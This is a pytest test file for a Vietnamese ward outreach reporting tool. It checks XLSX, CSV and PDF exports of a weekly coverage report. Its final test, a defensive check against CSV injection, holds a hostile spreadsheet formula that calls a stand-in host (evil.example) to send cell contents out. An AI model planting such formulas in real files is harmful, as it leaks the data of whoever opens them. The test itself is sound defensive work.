"""Export the hand-made ward's W47 report in each format and read the files back."""

from __future__ import annotations

import csv
import datetime as dt
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from outreach.reports import format_of, write_coverage
from outreach.reports.csv_export import read_sections
from outreach.services.coverage import CoverageReport, compute_coverage
from outreach.services.periods import parse_period
from outreach.store.database import Store
from tests.helpers.xlsx import sheet

from .conftest import AS_OF, SmallWard


@pytest.fixture
def report(store: Store, small_ward: SmallWard) -> CoverageReport:
    return compute_coverage(store, parse_period("2026-W47"), as_of=AS_OF)


def test_xlsx_has_the_figures_frozen_headers_formats_and_a_trend_chart(report: CoverageReport, tmp_path: Path) -> None:
    path = write_coverage(report, tmp_path / "bao-cao.xlsx")
    wb = load_workbook(path)
    assert wb.sheetnames == ["Tổng quan", "Chỉ số", "Theo tổ dân phố", "Hộ ưu tiên", "Kết quả thăm", "Hồ sơ theo mức",
                             "Hồ sơ theo thủ tục", "Theo tình nguyện viên", "Xu hướng 12 tuần"]
    summary = {row[0]: row[1] for row in wb["Tổng quan"].iter_rows(min_row=5, max_col=2, values_only=True) if row[0]}
    assert summary["Tổng số hộ"] == 6
    assert summary["Số hộ đã được thăm"] == 4
    assert summary["Tỷ lệ hộ được thăm"] == pytest.approx(4 / 6)
    assert summary["Số lần thăm hộ"] == 5
    assert summary["Hồ sơ đã hỗ trợ"] == 3
    assert summary["Hồ sơ có mã hồ sơ"] == 2
    assert summary["Điểm hài lòng trung bình (1–5)"] == pytest.approx(4.5)
    assert "Phường Ngọc Hà" in wb["Tổng quan"]["A2"].value and "Tuần 47/2026" in wb["Tổng quan"]["A2"].value

    groups = wb["Theo tổ dân phố"]
    assert groups.freeze_panes == "B5"
    assert [c.value for c in groups[4]] == [
        "Tổ dân phố",
        "Số hộ",
        "Hộ đã thăm",
        "Tỷ lệ thăm",
        "Hộ ưu tiên",
        "Hộ ưu tiên đã thăm",
        "Tỷ lệ ưu tiên",
    ]
    rows = list(groups.iter_rows(min_row=5, max_row=7, values_only=True))
    assert rows[0][:3] == ("Tổ dân phố số 1", 4, 3) and rows[1][:3] == ("Tổ dân phố số 2", 2, 1)
    assert rows[2][:3] == ("Tổng cộng", 6, 4)
    assert groups["D5"].number_format == "0.0%" and groups["D5"].value == pytest.approx(0.75)
    assert groups["B5"].number_format == "#,##0"

    trend = sheet(wb, "Xu hướng 12 tuần")
    assert trend.freeze_panes == "B5"
    assert [trend.cell(row=r, column=1).value for r in (5, 16)] == ["2026-W36", "2026-W47"]
    assert trend["C16"].value == 5 and trend["E16"].value == 3
    charts = trend._charts  # type: ignore[attr-defined]  # openpyxl keeps a sheet's charts in a private list
    assert len(charts) == 1 and charts[0].tagname == "lineChart"
    assert len(charts[0].series) == 2
    assert len(sheet(wb, "Theo tổ dân phố")._charts) == 1  # type: ignore[attr-defined]  # as above


def test_csv_round_trips_with_the_bom(report: CoverageReport, tmp_path: Path) -> None:
    path = write_coverage(report, tmp_path / "bao-cao.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["Đơn vị", "Phường Ngọc Hà"]
    assert rows[1][1].startswith("Tuần 47/2026")
    sections = read_sections(path)
    summary = {r[0]: r[1] for r in sections["Tổng quan"][1:]}
    assert summary["Tổng số hộ"] == "6" and summary["Số lần thăm hộ"] == "5"
    assert summary["Tỷ lệ hộ được thăm"] == "0.6667"
    groups = sections["Hộ được thăm theo tổ dân phố"]
    assert groups[0][0] == "Tổ dân phố"
    assert groups[-1][:3] == ["Tổng cộng", "6", "4"]
    outcomes = {r[0]: r[1] for r in sections["Lần thăm theo kết quả"][1:]}
    assert outcomes == {"Đã hỗ trợ": "1", "Đã hướng dẫn": "1", "Vắng nhà": "1", "Từ chối": "1", "Cần quay lại": "1", "Tổng cộng": "5"}
    assert len(sections["Xu hướng 12 tuần"]) == 13


def _pdf_text(path: Path) -> str:
    if shutil.which("pdftotext"):
        return subprocess.run(["pdftotext", "-layout", str(path), "-"], check=True, capture_output=True, text=True).stdout
    return "\n".join(page.extract_text() for page in PdfReader(path).pages)


def test_pdf_has_ward_period_totals_and_page_numbers(report: CoverageReport, tmp_path: Path) -> None:
    path = write_coverage(report, tmp_path / "bao-cao.pdf")
    reader = PdfReader(path)
    pages = len(reader.pages)
    assert pages >= 2
    assert reader.pages[0].mediabox.width == pytest.approx(595.28, abs=0.5)  # A4
    text = _pdf_text(path)
    assert "Phường Ngọc Hà" in text
    assert "Tuần 47/2026 (16/11/2026 – 22/11/2026)" in text
    assert f"Trang 1/{pages}" in text and f"Trang {pages}/{pages}" in text
    for line in ("Tổng số hộ", "Số lần thăm hộ", "Hồ sơ đã hỗ trợ"):
        assert line in text
    cells = [re.split(r"\s{2,}", ln.strip()) for ln in text.splitlines()]
    summary_lines = {c[0]: c[-1] for c in cells if len(c) >= 2}
    assert summary_lines["Tổng số hộ"] == "6"
    assert summary_lines["Số hộ đã được thăm"] == "4"
    assert summary_lines["Tỷ lệ hộ được thăm"] == "66,7 %"  # decimal comma, as Vietnamese print it
    assert summary_lines["Số lần thăm hộ"] == "5"
    assert summary_lines["Hồ sơ đã hỗ trợ"] == "3"
    # every page carries the ward and the period
    for page in reader.pages:
        page_text = page.extract_text()
        assert "Phường Ngọc Hà" in page_text and "Tuần 47/2026" in page_text


def test_format_comes_from_the_extension_or_is_refused(tmp_path: Path) -> None:
    assert format_of(tmp_path / "a.XLSX") == "xlsx"
    assert format_of(tmp_path / "a.txt", "pdf") == "pdf"
    with pytest.raises(Exception) as info:
        format_of(tmp_path / "a.docx")
    assert "docx" in str(info.value)


def test_stored_text_never_becomes_a_spreadsheet_formula(tmp_path: Path) -> None:
    """OWASP CSV injection: a name or address starting with = + - @ is text in CSV (leading
    apostrophe) and a string cell in XLSX (read back as the stored text, not a formula)."""
    from outreach.reports.lists import write_follow_up_list
    from outreach.services.coverage import FollowUpContact

    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'
    row = FollowUpContact("v1", dt.date(2026, 11, 25), False, hostile, "@SUM(1+1)", "+84912345678", "-Tổ 1", "Lan", "helped", None)
    xlsx = write_follow_up_list([row], tmp_path / "list.xlsx")
    sheet = load_workbook(xlsx).active
    assert sheet is not None
    cells = {c.value: c.data_type for c in sheet[2]}
    assert cells[hostile] == "s" and cells["@SUM(1+1)"] == "s" and cells["+84912345678"] == "s"
    assert not any(t == "f" for t in cells.values())
    with write_follow_up_list([row], tmp_path / "list.csv").open(encoding="utf-8-sig", newline="") as fh:
        written = list(csv.reader(fh))[1]
    assert written[2] == "'" + hostile and written[3] == "'@SUM(1+1)" and written[4] == "'+84912345678" and written[5] == "'-Tổ 1"
